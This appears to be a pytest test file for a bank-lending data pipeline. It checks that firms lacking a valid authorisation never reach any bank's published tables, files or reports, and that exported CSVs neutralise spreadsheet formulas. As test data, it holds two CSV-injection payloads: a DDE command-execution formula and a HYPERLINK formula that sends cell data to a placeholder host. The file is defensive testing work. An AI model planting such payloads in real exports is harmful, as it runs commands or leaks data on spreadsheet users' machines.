"""One gate for everything a bank receives: on a scored loan book whose authorisations are redelivered
with grants revoked and expired (beside the firms that never granted one), no artefact of any bank
(its schema's tables, its Parquet, CSVs and workbook, its report batch, its `bank query` results)
holds a firm without a valid authorisation on the date, and the authorised firms are all there. Text
a spreadsheet would run as a formula (a firm named `=cmd|...`) reaches the CSVs neutralised."""

import hashlib
import io
import json
import re
import zipfile
from datetime import date, timedelta
from pathlib import Path

import duckdb
import pandas as pd
import pytest

from ingestion.ingest import ingest_source
from lending.calendar import WorkingDays
from lending.eligibility import build_eligibility
from lending.gate import authorised_firms_sql
from lending.ledger.config import load_pool_config
from lending.ledger.store import post_business_date
from lending.products import load_products
from lending.publish import publish
from lending.warnings import update_warnings
from pipelines.cli import main
from reports.firm import bank_batches
from scoring.catalogue import load_catalogue
from valuecredit.spreadsheet import excel_csv
from valuecredit.store import init_store

DAY = date(2026, 11, 28)  # the loan book's business date: its files were all loaded on it
PRODUCTS, CAT = load_products(), load_catalogue()
BANKS = sorted(PRODUCTS.banks)
FORMULAS = ("=cmd|' /C calc'!A0", '=HYPERLINK("http://x/?d="&A2,"click")')
USCC = re.compile(r"[0-9A-Z]{18}")
REPORTS_PER_BANK = 6


def grants(landing: Path) -> pd.DataFrame:
    """Every delivered authorisation row, the latest delivery of each grant (firm, granted_on) winning."""
    manifest = pd.read_csv(landing / "manifest.csv", dtype=str, keep_default_na=False)
    files = manifest[manifest.source == "authorisations"].sort_values(["delivered_on", "file"])
    rows = pd.concat([pd.read_csv(landing / f, dtype=str, keep_default_na=False) for f in files.file], ignore_index=True)
    return rows.drop_duplicates(["uscc", "granted_on"], keep="last")


def valid_on(frame: pd.DataFrame, day: date) -> set[str]:
    """The firms with a valid grant on `day` (the test's own reading of the rule): a grant in force, not
    revoked, and given after the firm's latest revocation on or before the day."""
    d = pd.Timestamp(day)
    granted, expires = pd.to_datetime(frame.granted_on), pd.to_datetime(frame.expires_on)
    revoked = pd.to_datetime(frame.revoked_on.replace("", None))
    last = revoked.where(revoked <= d).groupby(frame.uscc).transform("max")
    ok = (granted <= d) & (expires > d) & (revoked.isna() | (revoked > d)) & (last.isna() | (granted > last))
    return set(frame.uscc[ok])


def as_delivered(src: Path, dst: Path, source: str, edit, correction: pd.DataFrame | None = None) -> None:
    """`dst`, a landing zone of its own, gets every file of `source` in `src` with `edit` applied to
    its rows (as if the department had delivered them so, on the same day), and `correction`, when
    given, as one more file delivered on DAY (its rows supersede the grants they repeat)."""
    manifest = pd.read_csv(src / "manifest.csv", dtype=str, keep_default_na=False)
    rows = manifest[manifest.source == source].copy()

    def write(i, file: str, frame: pd.DataFrame, encoding: str) -> None:
        (dst / file).parent.mkdir(parents=True, exist_ok=True)
        frame.to_csv(dst / file, index=False, encoding=encoding)
        raw = (dst / file).read_bytes()
        rows.loc[i, ["file", "sha256", "bytes", "rows"]] = [file, hashlib.sha256(raw).hexdigest(), str(len(raw)),
                                                            str(len(frame))]

    for i, entry in list(rows.iterrows()):
        write(i, entry.file, edit(pd.read_csv(src / entry.file, dtype=str, keep_default_na=False,
                                              encoding=entry.encoding)), entry.encoding)
    if correction is not None:
        last = rows.index[-1]
        rows.loc["correction"] = rows.loc[last]
        rows.loc["correction", "delivered_on"] = DAY.isoformat()
        write("correction", str(Path(rows.loc[last, "file"]).with_name(f"{source}_correction.csv")), correction,
              rows.loc[last, "encoding"])
    old = pd.read_csv(dst / "manifest.csv", dtype=str, keep_default_na=False) if (dst / "manifest.csv").exists() else None
    pd.concat([old, rows] if old is not None else [rows]).to_csv(dst / "manifest.csv", index=False)


@pytest.fixture(scope="module")
def gated(loan_book, score_loan_book, tmp_path_factory):
    work = tmp_path_factory.mktemp("gate")
    _, landing, _ = loan_book
    night = score_loan_book(work, (DAY,))
    con = night.con
    post_business_date(con, DAY, load_pool_config(), WorkingDays.load())
    update_warnings(con, DAY)
    build_eligibility(con, DAY, PRODUCTS)

    delivered = grants(landing)
    authorised = valid_on(delivered, DAY)
    warned = sorted(u for (u,) in con.execute("SELECT DISTINCT uscc FROM decisions.early_warnings WHERE status = 'open'")
                    .fetchall())
    # B03's eligible firms, largest limits first: the ones its report batch would take
    top = [u for (u,) in con.execute("""
        SELECT p.uscc FROM decisions.eligibility_pairs p JOIN decisions.eligibility_products USING (as_of, product_id)
        WHERE p.as_of = ? AND p.eligible AND bank_id = 'B03' GROUP BY p.uscc
        ORDER BY max(p.computed_limit_fen) DESC, p.uscc""", [DAY]).fetchall()]
    warned_ok = [u for u in warned if u in authorised and u not in top]
    top_ok = [u for u in top if u in authorised and u not in warned]
    assert len(warned_ok) > 4 and len(top_ok) > 5
    # the three ways to have no valid authorisation on the date, each for a borrower with a warning and
    # for a firm B03's batch would take but for the gate: grants revoked or cut short by a correction
    # delivered on the date, and grants never given (taken out of the files as delivered)
    revoked, expired, never = {warned_ok[0], top_ok[0]}, {warned_ok[1], top_ok[1]}, {warned_ok[2], top_ok[2]}
    assert {top_ok[0], top_ok[1], top_ok[2]} <= set(top[:REPORTS_PER_BANK])
    renamed = dict(zip(top_ok[3:5], FORMULAS))  # authorised, eligible at B03

    correction = delivered[delivered.uscc.isin(revoked | expired)].copy()
    correction.loc[correction.uscc.isin(revoked), "revoked_on"] = (DAY - timedelta(days=3)).isoformat()
    correction.loc[correction.uscc.isin(expired), "expires_on"] = (DAY - timedelta(days=1)).isoformat()

    def registry(frame):
        frame["name"] = frame.uscc.map(renamed).fillna(frame["name"])
        return frame

    edited = work / "redelivered"
    as_delivered(landing, edited, "registry", registry)
    as_delivered(landing, edited, "authorisations", lambda frame: frame[~frame.uscc.isin(never)], correction)
    now = valid_on(grants(edited), DAY)
    assert now == authorised - revoked - expired - never
    for source in ("authorisations", "registry"):  # DAY's partition again: the files as redelivered
        outcome = ingest_source(con, edited, source, DAY)
        assert not outcome.rejected and not outcome.quarantined_by_rule, outcome
    build_eligibility(con, DAY, PRODUCTS)
    out, reports = work / "publish", work / "reports"
    publish(con, DAY, PRODUCTS, out)
    bank_batches(con, BANKS, DAY, CAT, reports, limit=REPORTS_PER_BANK)
    scored = {u for (u,) in con.execute("SELECT uscc FROM scores.commercial_value WHERE as_of = ?", [DAY]).fetchall()}
    con.execute("CHECKPOINT")
    yield {"con": con, "db": work / "night.duckdb", "out": out, "reports": reports, "authorised": now, "firms": scored,
           "unauthorised": scored - now, "victims": revoked | expired | never, "warned": set(warned_ok[3:]),
           "batch": [u for u in top if u in now][:REPORTS_PER_BANK], "renamed": renamed}
    con.close()


def firms_in_frame(frame: pd.DataFrame) -> set[str]:
    """Every USCC in any cell, a cell of text included (and runs of 18 digits of other numbers): the
    cells as text, one to a line, searched at once."""
    return set(USCC.findall("\n".join(map(str, frame.to_numpy(dtype=object).ravel()))))


def firms_in_workbook(path: Path) -> set[str]:
    """Every USCC anywhere in a workbook: in every XML part of the file (sheets, shared strings, names,
    properties), hidden ones included; faster than reading its cells back and sees more."""
    with zipfile.ZipFile(path) as book:
        return set(USCC.findall("\n".join(book.read(n).decode("utf-8") for n in book.namelist() if n.endswith(".xml"))))


def bank_artefacts(g, capsys) -> dict[tuple[str, str], set[str]]:
    """(bank, artefact) -> the USCCs in it, for every artefact of every bank."""
    con, found = g["con"], {}
    for bank in BANKS:
        schema = f"bank_{bank.lower()}"
        for (table,) in con.execute("SELECT table_name FROM information_schema.tables WHERE table_schema = ?",
                                    [schema]).fetchall():
            found[bank, f"table {table}"] = firms_in_frame(con.execute(f'SELECT * FROM {schema}."{table}"').df())
        for path in sorted((g["out"] / bank).rglob("*")):
            if path.is_dir():
                continue
            kind = path.suffix or path.name
            if kind == ".parquet":
                found[bank, path.name] = firms_in_frame(pd.read_parquet(path))
            elif kind == ".xlsx":
                found[bank, path.name] = firms_in_workbook(path)
            else:  # CSVs and LATEST
                found[bank, path.name] = set(USCC.findall(path.read_text(encoding="utf-8-sig")))
        for path in sorted((g["reports"] / bank).rglob("*.html")):
            found[bank, f"report {path.name}"] = set(USCC.findall(path.read_text(encoding="utf-8")))
        for table in ("eligibility", "early_warnings"):
            assert main(["bank", "query", "--bank", bank, "--publish", str(g["out"]), f"SELECT * FROM {table}"]) == 0
            found[bank, f"bank query {table}"] = set(USCC.findall(capsys.readouterr().out))
    return found


def test_no_bank_artefact_holds_a_firm_without_a_valid_authorisation(gated, capsys):
    found = bank_artefacts(gated, capsys)
    kinds = {a.split(" ")[0] if " " in a else a for _, a in found}
    assert kinds == {"table", "eligibility.parquet", "eligibility.csv", "eligibility.xlsx", "early_warnings.csv",
                     "data_dictionary.csv", "changes.parquet", "changes.csv", "manifest.json", "LATEST", "report", "bank"}
    assert len(found) > len(PRODUCTS.banks) * 9
    leaks = {k: sorted(v & gated["unauthorised"]) for k, v in found.items() if v & gated["unauthorised"]}
    assert leaks == {}
    assert gated["victims"] <= gated["unauthorised"]
    # the gate is no blanket: the authorised borrowers' warnings and eligible firms all reach their banks
    everything = set().union(*found.values())
    assert gated["warned"] <= everything
    warned_tables = set().union(*(v for (_, a), v in found.items() if a == "table early_warnings")) & gated["firms"]
    con = gated["con"]
    expected = {u for (u,) in con.execute("SELECT DISTINCT uscc FROM decisions.early_warnings WHERE status = 'open'")
                .fetchall()} & gated["authorised"]
    assert warned_tables == expected and gated["warned"] <= expected
    # every authorised firm is decided for every product, so each is in some bank's eligibility
    assert set().union(*(v for (_, a), v in found.items() if a == "eligibility.parquet")) & gated["firms"] == {
        u for (u,) in con.execute("SELECT uscc FROM decisions.eligibility_firms WHERE as_of = ?", [DAY]).fetchall()
    } & gated["authorised"]
    # B03's batch: its authorised eligible firms with the largest limits
    assert found["B03", "report index.html"] & gated["firms"] == set(gated["batch"])


def test_firm_names_that_are_formulas_reach_every_csv_as_text(gated, capsys):
    folder = gated["out"] / "B03" / DAY.isoformat()
    csv = pd.read_csv(folder / "eligibility.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)
    parquet = pd.read_parquet(folder / "eligibility.parquet")
    for uscc, name in gated["renamed"].items():
        assert set(csv.firm_name[csv.uscc == uscc]) == {"'" + name}  # Excel shows it, does not run it
        assert set(parquet.firm_name[parquet.uscc == uscc]) == {name}  # Parquet keeps the value as delivered
    assert not csv.firm_name.str.match(r"[=+\-@\t\r]").any()
    assert (csv.limit_fen.astype(int) >= 0).all()  # numbers stay numbers
    assert main(["bank", "query", "--bank", "B03", "--publish", str(gated["out"]),
                 "SELECT uscc, firm_name, limit_fen, '-1' AS t FROM eligibility WHERE firm_name LIKE '=%' "
                 "ORDER BY uscc, product_id"]) == 0
    got = pd.read_csv(io.StringIO(capsys.readouterr().out), dtype=str)
    assert set(zip(got.uscc, got.firm_name)) == {(u, "'" + n) for u, n in gated["renamed"].items()}
    assert (got.t == "'-1").all() and got.limit_fen.str.fullmatch(r"\d+").all()


def test_every_text_cell_a_spreadsheet_would_run_is_neutralised_in_a_published_csv(tmp_path):
    con = duckdb.connect()
    excel_csv(con, """SELECT * FROM (VALUES ('w1', '=1+2', -3, 'a=b'), ('w2', '+41', 4, '@SUM(A1)'),
                                       ('w3', '-2', NULL, chr(9) || 'tab'), ('w4', chr(13) || 'cr', 5, NULL))
                 t(warning_id, evidence, n, kind)""", tmp_path / "w.csv")
    raw = (tmp_path / "w.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    frame = pd.read_csv(tmp_path / "w.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert list(frame.columns) == ["warning_id", "evidence", "n", "kind"]
    assert frame.evidence.tolist() == ["'=1+2", "'+41", "'-2", "'\rcr"]
    assert frame.kind.tolist() == ["a=b", "'@SUM(A1)", "'\ttab", ""]
    assert frame.n.tolist() == ["-3", "4", "", "5"]  # a number is never text


# --- the gate's rule, on a store built by hand: one firm, its grants and deliveries ---------------------

X = "91500000MA5U000001"  # a firm id; the gate reads rows, it does not check the code


def gate_store() -> duckdb.DuckDBPyConnection:
    con = duckdb.connect()
    init_store(con)
    return con


def delivered(con, file: str, on: str, rows: list[tuple], quarantined: list[tuple[str, str]] = ()) -> None:
    """One authorisation file delivered (and ingested) on `on`: `rows` (uscc, granted_on, expires_on,
    revoked_on) loaded, each earlier version of a grant superseded; `quarantined` (rule, record as
    delivered, JSON) set aside as ingestion sets them aside."""
    for i, (uscc, granted, expires, revoked) in enumerate(rows, 1):
        con.execute("UPDATE raw.authorisations SET _superseded_on = ?, _valid_to = ? WHERE uscc = ? AND granted_on = ? "
                    "AND _superseded_on IS NULL", [on, on, uscc, granted])
        con.execute("INSERT INTO raw.authorisations VALUES (?, ?, ?, ?, ?, ?, ?, ?, NULL, NULL)",
                    [uscc, granted, expires, revoked, file, i, on, on])
    for i, (rule, record) in enumerate(quarantined, len(rows) + 1):
        con.execute("INSERT INTO quarantine.rows VALUES ('authorisations', ?, ?, ?, 'bad', ?, ?)",
                    [file, i, rule, record, on])
    con.execute("INSERT INTO meta.ingested_files VALUES ('authorisations', ?, 'x', ?, ?, 'loaded', '', ?, ?, ?)",
                [file, on, on, len(rows) + len(quarantined), len(rows), len(quarantined)])


def authorised(con, day: date) -> set[str]:
    return {u for (u,) in con.execute(authorised_firms_sql(day)).fetchall()}


def test_a_revocation_withdraws_the_firm_not_one_grant():
    con = gate_store()
    delivered(con, "a1.csv", "2026-11-01", [(X, "2026-10-31", "2029-10-30", None)])
    delivered(con, "a2.csv", "2026-11-03", [(X, "2026-11-02", "2029-11-01", None)])
    assert authorised(con, date(2026, 11, 10)) == {X}
    # grant B revoked: grant A, older and never revoked on its own row, gives no consent any more
    delivered(con, "a3.csv", "2026-11-20", [(X, "2026-11-02", "2029-11-01", "2026-11-20")])
    assert authorised(con, date(2026, 11, 19)) == {X}  # what was known before the revocation
    assert authorised(con, date(2026, 11, 20)) == set()
    assert authorised(con, date(2026, 11, 29)) == set()
    # a grant on the day of the revocation does not re-authorise; one after it does, from its day
    delivered(con, "a4.csv", "2026-11-21", [(X, "2026-11-20", "2029-11-19", None)])
    assert authorised(con, date(2026, 11, 29)) == set()
    delivered(con, "a5.csv", "2026-11-25", [(X, "2026-11-24", "2029-11-23", None)])
    assert authorised(con, date(2026, 11, 23)) == set() and authorised(con, date(2026, 11, 29)) == {X}


def test_a_file_delivered_again_as_it_stood_before_a_revocation_does_not_undo_it():
    """The department re-sends an older file (its row without the revocation): the revocation, once
    delivered, stands until a new grant; the re-sent row does not re-authorise the firm."""
    con = gate_store()
    delivered(con, "a1.csv", "2026-11-01", [(X, "2026-10-31", "2029-10-30", None)])
    delivered(con, "a2.csv", "2026-11-10", [(X, "2026-10-31", "2029-10-30", "2026-11-10")])
    assert authorised(con, date(2026, 11, 12)) == set()
    delivered(con, "a1.csv", "2026-11-15", [(X, "2026-10-31", "2029-10-30", None)])  # the old file, again
    assert authorised(con, date(2026, 11, 16)) == set() and authorised(con, date(2026, 11, 29)) == set()
    assert authorised(con, date(2026, 11, 9)) == {X}  # what was known before the revocation is unchanged
    delivered(con, "a3.csv", "2026-11-20", [(X, "2026-11-19", "2029-11-18", None)])  # a new grant authorises again
    assert authorised(con, date(2026, 11, 20)) == {X}


def test_a_firm_whose_newest_authorisation_row_was_quarantined_is_withheld():
    con = gate_store()
    other = "91500000MA5U000002"
    delivered(con, "a1.csv", "2026-10-12", [(X, "2026-10-11", "2029-10-10", None), (other, "2026-10-11", "2029-10-10", None)])
    assert authorised(con, date(2026, 11, 29)) == {X, other}
    row = {"granted_on": "2026-10-11", "expires_on": "2029-10-10", "revoked_on": "2026-11-31"}  # no 31 November
    bad, unreadable = json.dumps({"uscc": f" {X} "} | row), json.dumps({"uscc": ""} | row)
    delivered(con, "a2.csv", "2026-11-25", [], [("type_invalid", bad), ("key_null", unreadable)])
    assert authorised(con, date(2026, 11, 24)) == {X, other}  # not yet delivered
    assert authorised(con, date(2026, 11, 29)) == {other}  # the unreadable row is attributed to no firm
    # a good delivery for the firm afterwards: its rows decide again
    delivered(con, "a3.csv", "2026-11-27", [(X, "2026-10-11", "2029-10-10", None)])
    assert authorised(con, date(2026, 11, 29)) == {X, other}
